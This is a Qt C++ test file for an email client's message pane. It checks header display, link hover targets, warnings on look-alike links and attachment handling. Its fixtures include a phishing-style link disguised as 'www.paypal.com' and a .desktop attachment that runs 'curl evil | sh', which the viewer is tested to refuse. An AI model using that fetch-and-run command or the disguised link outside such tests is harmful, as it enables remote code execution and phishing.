// The message pane on its own (offscreen): what the header block shows, how
// an opened message is titled, links (hover target, look-alike text) and
// attachments (inline images, Save all, Open, bounce parts).

#include "hoverstatus.h"
#include "messagebrowser.h"
#include "messageviewer.h"

#include <QDesktopServices>
#include <QDir>
#include <QFile>
#include <QFileDialog>
#include <QFileInfo>
#include <QImage>
#include <QLabel>
#include <QListWidget>
#include <QMessageBox>
#include <QPointer>
#include <QProgressBar>
#include <QPushButton>
#include <QSignalSpy>
#include <QStatusBar>
#include <QTemporaryDir>
#include <QTest>
#include <QTextDocument>

using namespace Qt::StringLiterals;

namespace {

QByteArray simpleMessage(const QByteArray &extraHeaders, const QByteArray &subject = "Lunch")
{
    return "From: Ann <ann@example.com>\r\nTo: bob@example.com\r\n" + extraHeaders +
            "Subject: " + subject + "\r\nDate: Mon, 8 Jan 2024 10:00:00 +0100\r\n\r\nHello\r\n";
}

QByteArray htmlMessage(const QByteArray &html)
{
    return "From: Ann <ann@example.com>\r\nSubject: Links\r\nMIME-Version: 1.0\r\n"
           "Content-Type: text/html; charset=utf-8\r\n\r\n<html><body>" +
            html + "</body></html>\r\n";
}

// Stands in for the desktop's application for one URL scheme while it
// lives: QDesktopServices hands it the URLs.
class UrlRecorder : public QObject
{
    Q_OBJECT
public:
    explicit UrlRecorder(const QString &scheme)
        : m_scheme(scheme)
    {
        QDesktopServices::setUrlHandler(m_scheme, this, "open");
    }
    ~UrlRecorder() override { QDesktopServices::unsetUrlHandler(m_scheme); }

    QList<QUrl> urls;
public Q_SLOTS:
    void open(const QUrl &url) { urls.append(url); }

private:
    QString m_scheme;
};

// The middle of the first occurrence of text in the browser, in viewport
// coordinates.
QPoint pointOf(MessageBrowser *browser, const QString &text)
{
    const QTextCursor found = browser->document()->find(text);
    if (found.isNull())
        return {-1, -1};
    QTextCursor middle(browser->document());
    middle.setPosition((found.selectionStart() + found.selectionEnd()) / 2);
    return browser->cursorRect(middle).center();
}

QByteArray fixture(const char *name)
{
    QFile file(QStringLiteral(MAILPEEK_TEST_DATA_DIR "/mime/") + QLatin1String(name));
    if (!file.open(QIODevice::ReadOnly))
        qFatal("missing fixture %s", name);
    return file.readAll().replace("\n", "\r\n");
}

QStringList itemTexts(const QListWidget *list)
{
    QStringList texts;
    for (int i = 0; i < list->count(); ++i)
        texts.append(list->item(i)->text());
    return texts;
}

} // namespace

class tst_MessageViewer : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void ccAndReplyToAreShown();
    void replyToLikeFromIsNotShown();
    void openedMessageIsTitledBySubject();
    void subjectIsPlainTextInTheBanner();
    void hoverShowsTheRealTarget();
    void misleadingLinkAsksNamingBoth();
    void honestLinkOpensAtOnce();
    void anchorTextSpansFormats();
    void hoverStatusPutsBackWhatWasThere();
    void inlineImageShownWhereReferenced();
    void bouncePartsAreNamedByType();
    void saveAllWritesEveryPartAndSaysWhere();
    void openWritesAPrivateCopy();
    void openRefusesPrograms();

private:
    // On screen (hover and clicks need it), then the message.
    static void showOnScreen(MessageViewer &viewer, const QByteArray &raw, int number = 1)
    {
        viewer.resize(700, 500);
        viewer.show();
        QVERIFY(QTest::qWaitForWindowExposed(&viewer));
        showAndWait(viewer, number, raw);
    }
    static void showAndWait(MessageViewer &viewer, int number, const QByteArray &raw)
    {
        viewer.showMessage(number, raw);
        // The busy bar goes when the parse is rendered (the mode may be
        // Message already, from the message before).
        auto *busy = viewer.findChild<QProgressBar *>();
        QVERIFY(busy);
        QTRY_VERIFY(busy->isHidden());
        QCOMPARE(viewer.mode(), MessageViewer::Mode::Message);
    }
};

void tst_MessageViewer::ccAndReplyToAreShown()
{
    MessageViewer viewer;
    showAndWait(viewer, 3,
                simpleMessage("Cc: Carol <carol@example.org>, dave@example.net\r\n"
                              "Reply-To: Team <team@example.org>\r\n"));
    const QString headers = viewer.headerText();
    QVERIFY2(headers.contains(u"<b>Cc:</b>"_s), qPrintable(headers));
    QVERIFY2(headers.contains(u"Carol &lt;carol@example.org&gt;, dave@example.net"_s),
             qPrintable(headers));
    QVERIFY2(headers.contains(u"<b>Reply-To:</b>"_s), qPrintable(headers));
    QVERIFY2(headers.contains(u"Team &lt;team@example.org&gt;"_s), qPrintable(headers));
}

void tst_MessageViewer::replyToLikeFromIsNotShown()
{
    MessageViewer viewer;
    showAndWait(viewer, 1, simpleMessage("Reply-To: ANN@example.com\r\n"));
    QVERIFY2(!viewer.headerText().contains(u"Reply-To"_s), qPrintable(viewer.headerText()));
    QVERIFY(!viewer.headerText().contains(u"Cc:"_s));
}

void tst_MessageViewer::openedMessageIsTitledBySubject()
{
    MessageViewer viewer;
    showAndWait(viewer, 4, simpleMessage({}, "=?UTF-8?Q?Gr=C3=BC=C3=9Fe?= from Munich"));
    QCOMPARE(viewer.bannerText(), u"Grüße from Munich"_s);
    viewer.renumber(2);
    QCOMPARE(viewer.bannerText(), u"Grüße from Munich"_s);

    showAndWait(viewer, 5, "From: a@example.com\r\n\r\nno subject\r\n");
    QCOMPARE(viewer.bannerText(), u"Message 5 (no subject)"_s);

    // A preview keeps saying that it is one.
    viewer.showPreview(6, simpleMessage({}));
    QTRY_COMPARE(viewer.mode(), MessageViewer::Mode::Preview);
    QCOMPARE(viewer.bannerText(), u"Preview - not marked as read on the server"_s);
}

void tst_MessageViewer::subjectIsPlainTextInTheBanner()
{
    MessageViewer viewer;
    showAndWait(viewer, 1, simpleMessage({}, "<b>bold</b> <img src=x>"));
    auto *banner = viewer.findChild<QLabel *>(u"viewerBanner"_s);
    QVERIFY(banner);
    QCOMPARE(banner->textFormat(), Qt::PlainText);
    QCOMPARE(banner->text(), u"<b>bold</b> <img src=x>"_s);
}

void tst_MessageViewer::hoverShowsTheRealTarget()
{
    MessageViewer viewer;
    showOnScreen(viewer,
                 htmlMessage("<p><a href=\"https://user:pw@evil.example/login\">My bank</a></p>"
                             "<p>After the link</p>"));
    QSignalSpy hovered(&viewer, &MessageViewer::linkHovered);
    MessageBrowser *browser = viewer.browser();
    QTest::mouseMove(browser->viewport(), pointOf(browser, u"My bank"_s));
    QTRY_VERIFY(!hovered.isEmpty());
    QCOMPARE(hovered.last().at(0).toString(), u"https://evil.example/login"_s);
    QTest::mouseMove(browser->viewport(), pointOf(browser, u"After the link"_s));
    QTRY_COMPARE(hovered.last().at(0).toString(), QString());
}

void tst_MessageViewer::misleadingLinkAsksNamingBoth()
{
    UrlRecorder recorder(u"https"_s);
    MessageViewer viewer;
    showOnScreen(viewer,
                 htmlMessage("<p>Please <a href=\"https://evil.example/login\">www.paypal.com"
                             "</a> today</p>"));
    MessageBrowser *browser = viewer.browser();

    for (const bool accept : {false, true}) {
        QTest::mouseClick(browser->viewport(), Qt::LeftButton, {}, pointOf(browser, u"paypal"_s));
        QMessageBox *box = nullptr;
        QTRY_VERIFY((box = viewer.findChild<QMessageBox *>(u"linkWarning"_s)) != nullptr);
        QTRY_VERIFY(box->isVisible());
        QVERIFY2(box->text().contains(u"www.paypal.com"_s), qPrintable(box->text()));
        QVERIFY2(box->text().contains(u"https://evil.example/login"_s), qPrintable(box->text()));
        QCOMPARE(box->defaultButton(), box->button(QMessageBox::Cancel));
        QVERIFY(recorder.urls.isEmpty());
        QPointer<QMessageBox> guard(box);
        if (accept)
            box->findChild<QPushButton *>(u"openMisleadingLink"_s)->click();
        else
            box->button(QMessageBox::Cancel)->click();
        QTRY_VERIFY(guard.isNull());
    }
    QCOMPARE(recorder.urls, QList<QUrl>{QUrl(u"https://evil.example/login"_s)});
}

void tst_MessageViewer::honestLinkOpensAtOnce()
{
    UrlRecorder recorder(u"https"_s);
    MessageViewer viewer;
    showOnScreen(viewer,
                 htmlMessage("<p><a href=\"https://www.example.com/a\">example.com</a></p>"
                             "<p><a href=\"https://evil.example/\">Read more</a></p>"));
    MessageBrowser *browser = viewer.browser();
    QTest::mouseClick(browser->viewport(), Qt::LeftButton, {}, pointOf(browser, u"example.com"_s));
    QTRY_COMPARE(recorder.urls.size(), 1);
    QTest::mouseClick(browser->viewport(), Qt::LeftButton, {}, pointOf(browser, u"Read more"_s));
    QTRY_COMPARE(recorder.urls.size(), 2);
    QCOMPARE(recorder.urls.at(1), QUrl(u"https://evil.example/"_s));
    QVERIFY(!viewer.findChild<QMessageBox *>(u"linkWarning"_s));
}

void tst_MessageViewer::anchorTextSpansFormats()
{
    QTextDocument document;
    document.setHtml(u"<p>Go to <a href=\"https://x.example/\"><b>www.</b>bank<i>.example</i></a>"
                     " <a href=\"https://y.example/\">other</a></p>"_s);
    const QString plain = document.toPlainText();
    const int inside = int(plain.indexOf(u"bank"_s)) + 1;
    QCOMPARE(MessageBrowser::anchorTextAt(&document, inside), u"www.bank.example"_s);
    QCOMPARE(MessageBrowser::anchorTextAt(&document, int(plain.indexOf(u"other"_s))), u"other"_s);
    QCOMPARE(MessageBrowser::anchorTextAt(&document, 1), QString());
}

void tst_MessageViewer::hoverStatusPutsBackWhatWasThere()
{
    QStatusBar bar;
    bar.showMessage(u"Reading the message list…"_s);
    auto *hover = new HoverStatus(&bar);
    hover->show(u"https://a.example/"_s);
    QCOMPARE(bar.currentMessage(), u"https://a.example/"_s);
    hover->show(u"https://b.example/"_s);
    QCOMPARE(bar.currentMessage(), u"https://b.example/"_s);
    hover->show(QString());
    QCOMPARE(bar.currentMessage(), u"Reading the message list…"_s);
    // Something newer than the link stays when the pointer leaves.
    hover->show(u"https://a.example/"_s);
    bar.showMessage(u"Connection lost"_s);
    hover->show(QString());
    QCOMPARE(bar.currentMessage(), u"Connection lost"_s);
}

void tst_MessageViewer::inlineImageShownWhereReferenced()
{
    MessageViewer viewer;
    QSignalSpy found(&viewer, &MessageViewer::attachmentsFound);
    showOnScreen(viewer, fixture("inline-images.eml"), 7);
    MessageBrowser *browser = viewer.browser();
    // Laid out, the document has asked for its images.
    QTRY_VERIFY(browser->document()->size().height() > 60);
    const QVariant chart = browser->document()->resource(QTextDocument::ImageResource,
                                                         QUrl(u"cid:chart@example.org"_s));
    QCOMPARE(chart.value<QImage>().size(), QSize(120, 60));
    QVERIFY(!browser->refusedResources().contains(QUrl(u"cid:chart@example.org"_s)));
    // The remote image is not fetched.
    QVERIFY(!browser->toHtml().contains(u"tracker.example"_s));
    // The chart is in the body, not in the list; the image the body does
    // not show is.
    const QStringList items = itemTexts(viewer.attachmentList());
    QCOMPARE(items.size(), 3);
    QVERIFY2(items.at(0).startsWith(u"unnamed (image/png"_s), qPrintable(items.join(u'|')));
    QVERIFY(items.at(1).startsWith(u"report.pdf (application/pdf"_s));
    QCOMPARE(found.count(), 1);
    QCOMPARE(found.at(0).at(0).toInt(), 7);
    QCOMPARE(found.at(0).at(1).toBool(), true);
    QVERIFY(viewer.findChild<QPushButton *>(u"saveAllAttachments"_s)->isEnabled());
}

void tst_MessageViewer::bouncePartsAreNamedByType()
{
    MessageViewer viewer;
    showAndWait(viewer, 2, fixture("bounce.eml"));
    const QStringList items = itemTexts(viewer.attachmentList());
    QCOMPARE(items.size(), 3);
    QVERIFY2(items.at(0).startsWith(u"Delivery report (message/delivery-status"_s),
             qPrintable(items.join(u'|')));
    QVERIFY(items.at(1).startsWith(u"Headers of the returned message (text/rfc822-headers"_s));
    QVERIFY(!items.join(u'|').contains(u"unnamed"_s));
}

void tst_MessageViewer::saveAllWritesEveryPartAndSaysWhere()
{
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    // Already there: kept, the new one takes another name.
    {
        QFile existing(dir.filePath(u"report.pdf"_s));
        QVERIFY(existing.open(QIODevice::WriteOnly));
        existing.write("mine");
    }
    MessageViewer viewer;
    const QByteArray raw = fixture("inline-images.eml");
    showOnScreen(viewer, raw);
    viewer.findChild<QPushButton *>(u"saveAllAttachments"_s)->click();
    QFileDialog *dialog = nullptr;
    QTRY_VERIFY((dialog = viewer.findChild<QFileDialog *>(u"saveAllDialog"_s)) != nullptr);
    QCOMPARE(dialog->fileMode(), QFileDialog::Directory);
    dialog->selectFile(dir.path());
    QMetaObject::invokeMethod(dialog, &QDialog::accept);

    auto *status = viewer.findChild<QLabel *>(u"attachmentStatus"_s);
    QVERIFY(status);
    QTRY_VERIFY(status->isVisible());
    QVERIFY2(status->text().contains(u"attachment.png, report (2).pdf, figures.csv"_s),
             qPrintable(status->text()));
    QVERIFY2(status->text().contains(QDir::toNativeSeparators(dir.path())),
             qPrintable(status->text()));

    QFile mine(dir.filePath(u"report.pdf"_s));
    QVERIFY(mine.open(QIODevice::ReadOnly));
    QCOMPARE(mine.readAll(), QByteArray("mine"));
    const ParsedMessage message = ParsedMessage::parse(raw);
    const auto contentOf = [&dir](const QString &name) {
        QFile file(dir.filePath(name));
        return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray("(missing)");
    };
    QCOMPARE(contentOf(u"report (2).pdf"_s), message.attachmentData(2));
    QCOMPARE(contentOf(u"figures.csv"_s), message.attachmentData(3));
    QVERIFY(contentOf(u"attachment.png"_s).startsWith("\x89PNG"));
    QCOMPARE(QDir(dir.path()).entryList(QDir::Files).size(), 4);
}

void tst_MessageViewer::openWritesAPrivateCopy()
{
    UrlRecorder recorder(u"file"_s);
    MessageViewer viewer;
    const QByteArray raw = fixture("attachment-rfc2231.eml");
    showOnScreen(viewer, raw);
    QVERIFY(viewer.attachmentList()->count() > 0);
    viewer.attachmentList()->setCurrentRow(0);
    viewer.findChild<QPushButton *>(u"openAttachment"_s)->click();
    QTRY_COMPARE(recorder.urls.size(), 1);

    const QString path = recorder.urls.first().toLocalFile();
    const QFileInfo file(path);
    QVERIFY2(file.exists(), qPrintable(path));
    // A private folder: only its owner may enter it.
    QCOMPARE(QFileInfo(file.absolutePath()).permissions() &
                     (QFileDevice::ReadGroup | QFileDevice::ExeGroup | QFileDevice::ReadOther |
                      QFileDevice::ExeOther | QFileDevice::WriteGroup | QFileDevice::WriteOther),
             QFileDevice::Permissions());
    QVERIFY(!(file.permissions() & (QFileDevice::ExeOwner | QFileDevice::ExeUser)));
    const ParsedMessage message = ParsedMessage::parse(raw);
    const Attachment first = message.attachments().at(0);
    QCOMPARE(file.fileName(), first.fileName);
    QFile copy(path);
    QVERIFY(copy.open(QIODevice::ReadOnly));
    QCOMPARE(copy.readAll(), message.attachmentData(0));
    auto *status = viewer.findChild<QLabel *>(u"attachmentStatus"_s);
    QTRY_VERIFY(status->text().contains(QDir::toNativeSeparators(path)));
}

void tst_MessageViewer::openRefusesPrograms()
{
    UrlRecorder recorder(u"file"_s);
    MessageViewer viewer;
    showAndWait(viewer, 1,
                "From: a@example.com\r\nSubject: tool\r\nMIME-Version: 1.0\r\n"
                "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
                "Content-Type: text/plain\r\n\r\nRun this\r\n--b\r\n"
                "Content-Type: text/plain; name=\"fix.desktop\"\r\n"
                "Content-Disposition: attachment; filename=\"fix.desktop\"\r\n\r\n"
                "[Desktop Entry]\r\nExec=sh -c 'curl evil | sh'\r\n--b--\r\n");
    QCOMPARE(viewer.attachmentList()->count(), 1);
    viewer.findChild<QPushButton *>(u"openAttachment"_s)->click();
    auto *status = viewer.findChild<QLabel *>(u"attachmentStatus"_s);
    QTRY_VERIFY(!status->text().isEmpty());
    QVERIFY2(status->text().contains(u"fix.desktop is a program"_s), qPrintable(status->text()));
    QTest::qWait(50); // nothing is queued that could still open it
    QVERIFY(recorder.urls.isEmpty());
}

QTEST_MAIN(tst_MessageViewer)
#include "tst_messageviewer.moc"
